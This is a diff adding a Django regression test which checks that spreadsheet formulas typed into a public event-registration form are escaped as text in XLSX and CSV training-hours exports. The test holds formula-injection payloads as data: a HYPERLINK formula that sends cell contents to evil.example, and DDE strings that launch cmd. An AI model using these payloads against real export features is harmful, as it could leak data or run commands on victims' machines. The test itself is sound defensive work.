@@ -193,3 +193,50 @@ def test_training_hours_page_and_downloads(leader_client, leader, programme, mun
     values = {row[0]: (row[1], row[2]) for row in sheet.iter_rows(min_row=2, values_only=True)}
     assert values == {"Kommunen": (1, 3.5), "Skolan": (1, 3.5), "Totalt": (2, 7.0)}
     assert book["Om filen"]["B2"].value == programme.name
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klicka")'
+
+
+def test_a_formula_typed_in_the_public_form_stays_text_in_both_downloads(
+    client, leader_client, leader
+):
+    """Issue 10: an anonymous registrant's organisation became a live formula in the
+    training-hours workbook, and +cmd|, @SUM( and -2+3 went into the CSV unchanged."""
+    event = make_event(leader.organisation)
+    url = reverse("events:public", args=[event.slug])
+    typed = [
+        ("Ada Angripare", HYPERLINK, "Kurator"),
+        ("Bo Bus", "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("Cia Cell", "-2+3", "Mentor"),
+    ]
+    for name, organisation, role in typed:
+        email = f"{name.split()[0].lower()}@exempel.se"
+        response = client.post(
+            url, {"name": name, "email": email, "organisation_name": organisation, "role": role}
+        )
+        assert response.status_code == 302
+    # The day comes and goes; the organiser marks everyone as having come.
+    Event.objects.filter(pk=event.pk).update(starts_at=at(-1, 9), ends_at=at(-1, 12, 30))
+    everyone = [str(pk) for pk in event.registrations.values_list("pk", flat=True)]
+    leader_client.post(reverse("events:attendance", args=[event.pk]), {"attended": everyone})
+
+    xlsx = leader_client.get(reverse("events:training_hours_xlsx"))
+    book = load_workbook(io.BytesIO(xlsx.content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    organisations = {row[0]: row[1:] for row in book["Organisation"].iter_rows(values_only=True)}
+    assert organisations["'" + HYPERLINK] == (1, 3.5)
+    assert organisations["'-2+3"] == (1, 3.5)
+    roles = [row[0] for row in book["Yrkesroll"].iter_rows(values_only=True)]
+    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in roles
+
+    response = leader_client.get(reverse("events:training_hours_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
+    assert ["Organisation", "'" + HYPERLINK, "1", "3,50"] in rows
+    assert ["Organisation", "'+cmd|' /C calc'!A0", "1", "3,50"] in rows
+    assert ["Organisation", "'-2+3", "1", "3,50"] in rows
+    assert ["Yrkesroll", "'@SUM(1+9)*cmd|' /C calc'!A0", "1", "3,50"] in rows
+    for row in rows:
+        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert xlsx["Cache-Control"] == response["Cache-Control"] == "no-store"
